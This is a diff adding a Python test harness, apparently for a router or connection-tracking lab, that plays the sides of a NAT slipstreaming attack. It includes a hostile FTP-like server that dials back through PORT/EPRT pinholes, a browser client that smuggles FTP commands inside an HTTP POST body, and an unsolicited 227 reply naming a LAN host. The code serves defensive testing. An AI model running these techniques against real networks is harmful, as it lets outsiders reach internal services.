@@ -1,0 +1,246 @@
+#!/usr/bin/python3
+"""attack_peers.py - the other ends of the attack lab (tests/lab/attack.py).
+
+    attack_peers.py hostile --addr A --ports 21,2121 --mode-file F --log F
+        The hostile WAN server of a NAT slipstreaming attack.  Per connection it
+        reads the mode file:
+          greet-first   send "220" on accept (an FTP-looking server)
+          greet-after   send "220" only once the client has spoken (the request
+                        came before the greeting)
+          unsolicited   a plain FTP server whose answer to NOOP is an unsolicited
+                        "227" naming a LAN host (UNSOLICITED below)
+        It answers USER 331, PASS 230, PORT/EPRT 200 wherever they appear in the
+        stream (inside an HTTP body too), and after each PORT/EPRT connects to the
+        endpoint it was told, as the attacker does to reach the victim.  One JSON
+        line per connection goes to the log: the lines seen, each connect and its
+        outcome.
+
+    attack_peers.py victim --addr A --port P --log F
+        The victim service on the LAN (a database port): logs one JSON line per
+        accepted connection.
+
+    attack_peers.py browser --addr A --port P --variant V
+        The LAN browser a web page drives: POST / HTTP/1.1 with headers and a body
+        USER a / PASS b / PORT <own address>,<port> (or EPRT).  Variants:
+          one-segment     wait for the 220, then the whole request in one write
+          segment-start   wait for the 220, request up to PASS in one write, then
+                          PORT in a write of its own (PORT starts a segment)
+          before-greeting the whole request at once, without waiting
+          eprt            as one-segment with EPRT |1|addr|port|
+        Prints a JSON object: what came back.
+
+    attack_peers.py noop --addr A --port P
+        A minimal FTP client: USER, PASS, NOOP; prints the NOOP's reply (JSON).
+
+Everything is bounded in time.  Test traffic stays in the lab's namespaces.
+"""
+import json
+import os
+import re
+import socket
+import sys
+import threading
+import time
+
+UNSOLICITED = "227 Entering Passive Mode (192,168,1,7,12,234)."
+CONNECT_TIMEOUT = 1.5
+IDLE_S = 1.0          # the hostile server closes a connection idle this long
+MAX_CONN_S = 8.0
+
+
+def jlog(path, obj):
+    with open(path, "a") as f:
+        f.write(json.dumps(obj) + "\n")
+
+
+def parse_target(line):
+    """(host, port) from a PORT or EPRT line, or None."""
+    m = re.match(r"(?i)^PORT\s+(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\s*$", line)
+    if m:
+        v = [int(x) for x in m.groups()]
+        return "%d.%d.%d.%d" % tuple(v[:4]), v[4] * 256 + v[5]
+    m = re.match(r"(?i)^EPRT\s+(.)([12])\1([^ ]+?)\1(\d+)\1\s*$", line)
+    if m:
+        return m.group(3), int(m.group(4))
+    return None
+
+
+def try_connect(src, host, port):
+    """Dials host:port from src, the hostile server's own address (a pinhole or an
+    expectation is for exactly the control peer)."""
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(CONNECT_TIMEOUT)
+    t0 = time.monotonic()
+    try:
+        s.bind((src, 0))
+        s.connect((host, port))
+        s.sendall(b"pwned\r\n")
+        return {"target": "%s:%d" % (host, port), "connected": True,
+                "secs": round(time.monotonic() - t0, 2)}
+    except OSError as e:
+        return {"target": "%s:%d" % (host, port), "connected": False, "error": str(e),
+                "secs": round(time.monotonic() - t0, 2)}
+    finally:
+        s.close()
+
+
+def hostile_conn(conn, lport, mode_file, log):
+    try:
+        with open(mode_file) as f:
+            mode = f.read().strip()
+    except OSError:
+        mode = "greet-first"
+    rec = {"port": lport, "mode": mode, "peer": conn.getpeername()[0], "lines": [],
+           "connects": [], "first_bytes": ""}
+    greeted = False
+    if mode in ("greet-first", "unsolicited"):
+        conn.sendall(b"220 hostile ready\r\n")
+        greeted = True
+    buf = b""
+    end = time.monotonic() + MAX_CONN_S
+    conn.settimeout(IDLE_S)
+    try:
+        while time.monotonic() < end:
+            try:
+                data = conn.recv(4096)
+            except socket.timeout:
+                break
+            if not data:
+                break
+            if not rec["first_bytes"]:
+                rec["first_bytes"] = data[:60].decode("latin-1")
+            if not greeted:
+                conn.sendall(b"220 hostile ready\r\n")
+                greeted = True
+            buf += data
+            while b"\n" in buf:
+                raw, buf = buf.split(b"\n", 1)
+                line = raw.rstrip(b"\r").decode("latin-1")
+                rec["lines"].append(line)
+                up = line.upper()
+                if up.startswith("USER"):
+                    conn.sendall(b"331 send the password\r\n")
+                elif up.startswith("PASS"):
+                    conn.sendall(b"230 logged in\r\n")
+                elif up.startswith("NOOP") and mode == "unsolicited":
+                    conn.sendall((UNSOLICITED + "\r\n").encode())
+                elif up.startswith("QUIT"):
+                    conn.sendall(b"221 bye\r\n")
+                    raise EOFError
+                else:
+                    t = parse_target(line)
+                    if t is not None:
+                        conn.sendall(b"200 command ok\r\n")
+                        rec["connects"].append(try_connect(conn.getsockname()[0], *t))
+    except (EOFError, OSError):
+        pass
+    finally:
+        conn.close()
+        jlog(log, rec)
+
+
+def hostile(args):
+    socks = []
+    for p in args["ports"].split(","):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind((args["addr"], int(p)))
+        s.listen(16)
+        socks.append((s, int(p)))
+
+    def serve(s, p):
+        while True:
+            c, _ = s.accept()
+            threading.Thread(target=hostile_conn, args=(c, p, args["mode-file"], args["log"]),
+                             daemon=True).start()
+
+    for s, p in socks:
+        threading.Thread(target=serve, args=(s, p), daemon=True).start()
+    while True:
+        time.sleep(3600)
+
+
+def victim(args):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((args["addr"], int(args["port"])))
+    s.listen(16)
+    while True:
+        c, peer = s.accept()
+        c.settimeout(1.0)
+        try:
+            got = c.recv(100).decode("latin-1")
+        except OSError:
+            got = ""
+        c.close()
+        jlog(args["log"], {"peer": peer[0], "got": got, "t": time.time()})
+
+
+def recv_until(s, pred, limit_s):
+    data = b""
+    end = time.monotonic() + limit_s
+    while time.monotonic() < end and not pred(data):
+        s.settimeout(max(0.05, end - time.monotonic()))
+        try:
+            b = s.recv(4096)
+        except socket.timeout:
+            break
+        if not b:
+            break
+        data += b
+    return data
+
+
+def browser(args):
+    me_port = int(args.get("victim-port", "3306"))
+    v = args["variant"]
+    s = socket.create_connection((args["addr"], int(args["port"])), timeout=5)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    me = s.getsockname()[0]
+    if v == "eprt":
+        data_cmd = "EPRT |1|%s|%d|\r\n" % (me, me_port)
+    else:
+        data_cmd = "PORT %s,%d,%d\r\n" % (me.replace(".", ","), me_port >> 8, me_port & 255)
+    body = "USER a\r\nPASS b\r\n"
+    head = ("POST / HTTP/1.1\r\nHost: %s:%s\r\nUser-Agent: Mozilla/5.0\r\n"
+            "Content-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
+            % (args["addr"], args["port"], len(body) + len(data_cmd)))
+    got = b""
+    if v != "before-greeting":
+        got += recv_until(s, lambda d: b"\n" in d, 4.0)
+    if v == "segment-start":
+        s.sendall((head + body).encode())
+        time.sleep(0.3)
+        s.sendall(data_cmd.encode())
+    else:
+        s.sendall((head + body + data_cmd).encode())
+    got += recv_until(s, lambda d: False, 6.0)
+    s.close()
+    print(json.dumps({"local": me, "sent_cmd": data_cmd.strip(), "got": got.decode("latin-1")}))
+
+
+def noop(args):
+    s = socket.create_connection((args["addr"], int(args["port"])), timeout=5)
+    out = {}
+    out["greeting"] = recv_until(s, lambda d: d.endswith(b"\n"), 4.0).decode("latin-1")
+    for cmd in ("USER a", "PASS b", "NOOP"):
+        s.sendall((cmd + "\r\n").encode())
+        out[cmd.split()[0]] = recv_until(s, lambda d: d.endswith(b"\n"), 4.0).decode("latin-1")
+    s.sendall(b"QUIT\r\n")
+    recv_until(s, lambda d: d.endswith(b"\n"), 2.0)
+    s.close()
+    print(json.dumps(out))
+
+
+def main():
+    role = sys.argv[1]
+    args = {}
+    it = iter(sys.argv[2:])
+    for k in it:
+        args[k.lstrip("-")] = next(it)
+    {"hostile": hostile, "victim": victim, "browser": browser, "noop": noop}[role](args)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
